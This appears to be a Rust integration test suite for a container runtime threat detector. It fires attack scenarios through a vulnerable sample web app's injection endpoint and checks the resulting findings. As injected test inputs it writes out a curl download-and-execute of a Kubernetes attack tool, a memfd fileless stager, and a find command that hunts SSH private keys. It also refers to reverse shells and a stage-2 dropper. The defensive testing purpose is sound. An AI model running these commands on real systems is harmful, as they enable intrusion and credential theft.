//! The attack scenario table (tests/common/scenarios.rs) in real containers, run as users run them
//! (default seccomp profile and capabilities): every row arrives from outside, through the sample web
//! app's vulnerable endpoint, a tool dropped from the attacker's web server, a reverse shell to a
//! listener on the test network, or a script the batch job fetches; the findings are read back from
//! the file sink on a mounted directory and checked field by field. One container per app: each row
//! is one request (or one hook), which keeps the whole table to a few seconds.

#[path = "common/docker.rs"]
mod docker;
#[path = "common/scenarios.rs"]
mod scenarios;

use std::time::{Duration, Instant};

use docker::*;
use scenarios::*;
use serde_json::Value;

const IN_IMAGE: &str = "/usr/local/bin/runwarden";

fn docker_rows() -> Vec<&'static Scenario> {
    scenarios().filter(|r| !matches!(r.runs, Runs::NotInDocker(_))).collect()
}

/// A policy directory whose IoC lists name an unchanged binary of `image` (/usr/bin/users: a threat
/// feed flagging something the image ships, "Built in Malicious Binary") and the attacker's address
/// (`c2`: "Connection to Known Bad Address").
fn policies_flagging(image: &str, c2: &str) -> tempfile::TempDir {
    let out = docker_ok(&["run", "--rm", "--entrypoint", "sha256sum", image, "/usr/bin/users"]);
    let sha = out.split_whitespace().next().unwrap().to_string();
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    // Readable by the container's user, whoever that is.
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::create_dir(dir.path().join("ioc")).unwrap();
    std::fs::write(dir.path().join("ioc/sha256.txt"), format!("{sha} test-feed-family\n")).unwrap();
    std::fs::write(dir.path().join("ioc/ips.txt"), format!("{c2}\n")).unwrap();
    dir
}

/// Reads the file sink until every row's finding is there (or `timeout`); the problems left.
fn wait_for_rows(
    sink: &SinkDir,
    rows: &[&Scenario],
    vars_of: &dyn Fn(&Scenario) -> Vars,
    image: &str,
    timeout: Duration,
    exec_sensor: &str,
) -> (Vec<Value>, Vec<String>) {
    let deadline = Instant::now() + timeout;
    loop {
        let findings = read_sink(sink);
        let problems = check(rows, vars_of, &findings, Some(image), exec_sensor);
        if problems.is_empty() || Instant::now() >= deadline {
            return (findings, problems);
        }
        std::thread::sleep(Duration::from_millis(300));
    }
}

fn read_sink(sink: &SinkDir) -> Vec<Value> {
    complete_lines(&std::fs::read_to_string(sink.path()).unwrap_or_default())
        .map(|l| {
            serde_json::from_str(l).unwrap_or_else(|e| panic!("not one JSON finding per line ({e}): {l}"))
        })
        .collect()
}

/// Runs every row that can work in `variant` through the vulnerable web app, in one container.
fn attack_table_in_the_web_app(variant: Variant) {
    let gw = ensure_network();
    let image = "runwarden-test/pyweb:latest";
    build_app("pyweb", image);
    let policies = policies_flagging(image, &gw);
    let rows: Vec<&Scenario> = docker_rows()
        .into_iter()
        .filter(|r| !matches!(r.arrival, Arrival::Fetched(_)) && r.needs.runs_in(variant))
        .collect();
    let base_vars = Vars { web: String::new(), gw: gw.clone(), lport: 0, runwarden: IN_IMAGE.into() };
    // The files served do not name the server's address for these rows.
    let server = FileServer::start(&gw, attacker_files(&base_vars, &rows));
    let web = server.base.clone();
    let sink = SinkDir::new();
    let options: &[&str] = match variant {
        Variant::Root => &[],
        Variant::NonRoot => &["--user", "65534:65534"],
        Variant::ReadOnly => &["--read-only", "--tmpfs", "/tmp"],
        Variant::Syscalls => &["-e", "RUNWARDEN_SYSCALLS=default"],
        Variant::Seccomp => &["--security-opt", "no-new-privileges"],
    };
    let mut options: Vec<String> = options.iter().map(|o| o.to_string()).collect();
    options.extend([
        "-v".into(),
        sink.volume(),
        "-v".into(),
        format!("{}:/rw-policies:ro", policies.path().display()),
    ]);
    let options: Vec<&str> = options.iter().map(String::as_str).collect();
    let c = Container::run_with(
        image,
        &format!("-{variant:?}").to_lowercase(),
        &[
            &format!("RUNWARDEN_SINKS=stderr,file:{}", SinkDir::IN_CONTAINER),
            "RUNWARDEN_POLICIES=/rw-policies",
            // Scanner rows live about 2.5 s: look often enough, even on a loaded machine.
            "RUNWARDEN_SCAN_INTERVAL=200ms",
            &format!("RUNWARDEN_IMAGE={image}"),
        ],
        &options,
    );
    let ip = c.ip();
    wait_ready(&ip, 8080, "/healthz");
    let mode = format!("\"mode\":\"{}\"", variant.exec_sensor());
    assert!(c.logs().contains(&mode), "{variant:?}: not watched by {mode}:\n{}", c.logs());

    // Benign traffic first: nothing MEDIUM or above.
    for _ in 0..5 {
        assert_eq!(get(&ip, 8080, "/healthz").as_deref(), Some("ok"));
        assert!(get(&ip, 8080, "/work").unwrap().contains("date"));
    }
    std::thread::sleep(Duration::from_millis(500));
    let benign = read_sink(&sink);
    assert!(loud(&benign).is_empty(), "{variant:?}: benign traffic raised findings: {benign:#?}");

    let mut ports = std::collections::HashMap::new();
    for row in &rows {
        let mut vars = Vars { web: web.clone(), ..base_vars.clone() };
        let session = typed_commands(row).map(|cmds| {
            // Fixed ports (a Stratum pool's) differ per variant: the variants run in parallel.
            let fixed = listener_port(row);
            // Each a port of the pool list (policies/rules/scan.yaml): 3334-3336 and 3357.
            let offset = if variant == Variant::Seccomp { 24 } else { variant as u16 + 1 };
            let port = if fixed == 0 { 0 } else { fixed + offset };
            let (port, session) = reverse_shell_listener(&gw, port, cmds.to_string());
            vars.lport = port;
            session
        });
        ports.insert(row.name, vars.lport);
        let cmd = injected_command(row, &vars).unwrap();
        let _ = get(&ip, 8080, &format!("/lookup?name={}", url_encode(&cmd)));
        if let Some(session) = session {
            let got = session.join().unwrap();
            assert!(!got.starts_with("no connection"), "{}: nothing connected: {got:?}", row.name);
        }
    }
    let vars_of = |row: &Scenario| Vars {
        web: web.clone(),
        lport: ports.get(row.name).copied().unwrap_or(0),
        ..base_vars.clone()
    };
    let (findings, problems) =
        wait_for_rows(&sink, &rows, &vars_of, image, Duration::from_secs(20), variant.exec_sensor());
    assert!(
        problems.is_empty(),
        "{variant:?}: {} of {} rows failed:\n{}\n\nall findings: {:#?}",
        problems.len(),
        rows.len(),
        problems.join("\n"),
        findings
            .iter()
            .map(|f| format!("{} | {} | {}", f["category"], f["rule"]["id"], f["processes"][0]["args"]))
            .collect::<Vec<_>>()
    );
    // The stderr sink carried the same findings (same ids) as the file sink.
    let on_stderr: std::collections::HashSet<String> =
        c.findings().iter().filter_map(|f| f["findingId"].as_str().map(String::from)).collect();
    for f in &findings {
        assert!(on_stderr.contains(f["findingId"].as_str().unwrap()), "not on stderr: {f}");
    }
    if rows.iter().any(|r| r.name == "malicious-script") {
        assert!(server.served().iter().any(|p| p == "/f/stage2.sh"), "the dropper never fetched stage 2");
    }
    // docker stop: SIGTERM reaches the app through runwarden (PID 1) and its exit code (0) comes back.
    assert_eq!(c.stop(), 0, "{variant:?}: the app's SIGTERM exit code: logs:\n{}", c.logs());
    eprintln!(
        "{variant:?}: {} rows passed: {:?}",
        rows.len(),
        rows.iter().map(|r| r.name).collect::<Vec<_>>()
    );
}

#[test]
fn attack_table_as_root() {
    attack_table_in_the_web_app(Variant::Root);
}

#[test]
fn attack_table_as_a_non_root_user() {
    attack_table_in_the_web_app(Variant::NonRoot);
}

#[test]
fn attack_table_on_a_read_only_root_file_system() {
    attack_table_in_the_web_app(Variant::ReadOnly);
}

#[test]
fn attack_table_in_syscall_mode() {
    attack_table_in_the_web_app(Variant::Syscalls);
}

/// The same table under the seccomp exec sensor: `--security-opt no-new-privileges` sets
/// no_new_privs, so `auto` chooses it (nothing the workload can do changes).
#[test]
fn attack_table_under_the_seccomp_sensor() {
    attack_table_in_the_web_app(Variant::Seccomp);
}

#[test]
fn attack_table_through_the_batch_jobs_fetched_hooks() {
    let gw = ensure_network();
    let image = "runwarden-test/batch:latest";
    build_app("batch", image);
    let rows: Vec<&Scenario> =
        docker_rows().into_iter().filter(|r| matches!(r.arrival, Arrival::Fetched(_))).collect();
    assert!(!rows.is_empty());
    // The hooks name the server's own address: start it, then serve files that know it.
    let listener = std::net::TcpListener::bind((gw.as_str(), 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let vars =
        Vars { web: format!("http://{gw}:{port}"), gw: gw.clone(), lport: 0, runwarden: IN_IMAGE.into() };
    let server = FileServer::serve(listener, attacker_files(&vars, &rows));
    let sink = SinkDir::new();
    let c = Container::run_with(
        image,
        "",
        &[
            &format!("RUNWARDEN_SINKS=stderr,file:{}", SinkDir::IN_CONTAINER),
            &format!("RUNWARDEN_IMAGE={image}"),
            &format!("JOB_MANIFEST_URL={}/h/manifest", server.base),
        ],
        &["-v", &sink.volume()],
    );
    let code = c.wait(Duration::from_secs(60));
    assert_eq!(code, 0, "the job failed:\n{}", c.logs());
    let (findings, problems) =
        wait_for_rows(&sink, &rows, &|_| vars.clone(), image, Duration::from_secs(5), "ptrace");
    assert!(problems.is_empty(), "{}\n\nall findings: {findings:#?}", problems.join("\n"));
    for row in &rows {
        assert!(server.served().contains(&format!("/h/{}.sh", row.name)), "{} never fetched", row.name);
    }
}

/// Every rule the defaults ship (policies/rules/*.yaml) has a row in the table, or its category is
/// listed as not yet covered: a new rule without an attack scenario fails here.
#[test]
fn every_default_rule_has_a_scenario_row() {
    let mut missing = Vec::new();
    let mut rules = 0;
    for entry in std::fs::read_dir(repo().join("policies/rules")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "yaml") {
            continue;
        }
        let doc: serde_yaml_ng::Value =
            serde_yaml_ng::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
        for rule in doc["rules"].as_sequence().into_iter().flatten() {
            let (id, category) = (rule["id"].as_str().unwrap(), rule["category"].as_str().unwrap_or(""));
            rules += 1;
            let row = scenarios().any(|r| r.rule == id);
            let pending = NOT_YET_COVERED.iter().any(|(c, _)| *c == category);
            if !row && !pending {
                missing.push(format!("{id} ({category}) in {}", path.display()));
            }
        }
    }
    assert!(rules > 40, "the rule files were not read ({rules} rules)");
    assert!(
        missing.is_empty(),
        "rules without an attack scenario: add a row to shim/tests/common/scenario_rows.rs (exec rules) or sensor_rows.rs:\n{}",
        missing.join("\n")
    );
}

/// Starts the vulnerable web app (container name suffix `name`) with a file sink, sends `cmd` through
/// its injection endpoint, and waits (10 s) for the first finding `want` accepts.
fn inject_and_find(name: &str, cmd: &str, want: impl Fn(&Value) -> bool) -> Value {
    inject_and_find_with(name, &[], cmd, want)
}

/// [`inject_and_find`] with more `docker run` options.
fn inject_and_find_with(name: &str, options: &[&str], cmd: &str, want: impl Fn(&Value) -> bool) -> Value {
    let image = "runwarden-test/pyweb:latest";
    build_app("pyweb", image);
    let sink = SinkDir::new();
    let volume = sink.volume();
    let mut opts = vec!["-v", volume.as_str()];
    opts.extend_from_slice(options);
    let c = Container::run_with(
        image,
        name,
        &[&format!("RUNWARDEN_SINKS=file:{}", SinkDir::IN_CONTAINER)],
        &opts,
    );
    let ip = c.ip();
    wait_ready(&ip, 8080, "/healthz");
    let _ = get(&ip, 8080, &format!("/lookup?name={}", url_encode(cmd)));
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let findings = read_sink(&sink);
        if let Some(f) = findings.iter().find(|f| want(f)) {
            return f.clone();
        }
        assert!(Instant::now() < deadline, "no such finding: {findings:#?}\n{}", c.logs());
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// A workload that drops root with setpriv, gosu or su-exec (common in entrypoints) stays visible. In a
/// Docker container runwarden is root without CAP_SYS_PTRACE (Docker's default capabilities), so its
/// reads of /proc/<pid>/{exe,environ,fd} of a process whose uid is no longer 0 fail with EACCES
/// (ptrace_may_access); runwarden retries them with its reading thread's fsuid/fsgid set to the
/// process's (PTRACE_MODE_*_FSCREDS compares those). Here the attacker runs a Kubernetes attack tool
/// as nobody.
#[test]
fn execs_after_a_privilege_drop_are_still_seen() {
    let gw = ensure_network();
    let server = FileServer::start(&gw, vec![("/t/peirates".into(), std::fs::read("/bin/true").unwrap())]);
    let cmd = format!(
        "x;curl -fsS {}/t/peirates -o /tmp/peirates && chmod 755 /tmp/peirates && \
         setpriv --reuid=65534 --regid=65534 --clear-groups /tmp/peirates",
        server.base
    );
    // Under both exec sensors: ptrace (auto, Docker's defaults) and seccomp (auto, no_new_privs set).
    for (suffix, options, sensor) in [
        ("-setpriv", &[][..], "ptrace"),
        ("-setpriv-seccomp", &["--security-opt", "no-new-privileges"][..], "seccomp"),
    ] {
        let f = inject_and_find_with(suffix, options, &cmd, |f| {
            f["category"] == "Execution: Kubernetes Attack Tool Execution"
                && f["processes"][0]["binary"]["path"] == "/tmp/peirates"
        });
        assert_eq!(f["severity"], "CRITICAL", "the tool run as nobody: {f:#}");
        assert_eq!(f["sourceProperties"]["sensor"], sensor, "{f:#}");
    }
    assert_eq!(server.served(), vec!["/t/peirates", "/t/peirates"]);
}

/// A program executed from a memfd that exits at once (a stager) is still reported with its sha256
/// (and so the VirusTotal link): hashing runs off the tracer thread, after the process and its
/// memfd are gone, so runwarden holds such programs open from the exec stop (found by this suite,
/// fixed in shim/src).
#[test]
fn short_lived_memfd_programs_are_hashed() {
    ensure_network();
    let cmd = "x;python3 -c \"import os;fd=os.memfd_create('st');os.write(fd,open('/bin/true','rb').read());\
               os.execv('/proc/self/fd/%d'%fd,['st'])\"";
    let f = inject_and_find("-memfd", cmd, |f| f["rule"]["id"] == "fileless_memfd");
    let sha = f["processes"][0]["binary"]["sha256"].as_str().unwrap_or("");
    assert_eq!(sha.len(), 64, "the memfd program's finding has no sha256: {f:#}");
}

/// Credential-hunting command lines reach the sinks whole: the mysql-style `-pPASSWORD` redaction
/// once applied to every program's arguments and turned `find`'s `-path` and `-print` (and openssl's
/// `-pre`) into `-p[REDACTED]` (found by this suite, fixed in shim/src/detect/redact.rs).
#[test]
fn find_arguments_are_not_redacted_as_passwords() {
    ensure_network();
    let cmd = "x;find / -xdev -maxdepth 3 -path '*/.ssh/*' -name id_rsa -print";
    let f = inject_and_find("-redact", cmd, |f| f["rule"]["id"] == "search_private_keys_or_passwords");
    let args = &f["processes"][0]["args"];
    let want = serde_json::json!([
        "find",
        "/",
        "-xdev",
        "-maxdepth",
        "3",
        "-path",
        "*/.ssh/*",
        "-name",
        "id_rsa",
        "-print"
    ]);
    assert_eq!(args, &want, "{f:#}");
}
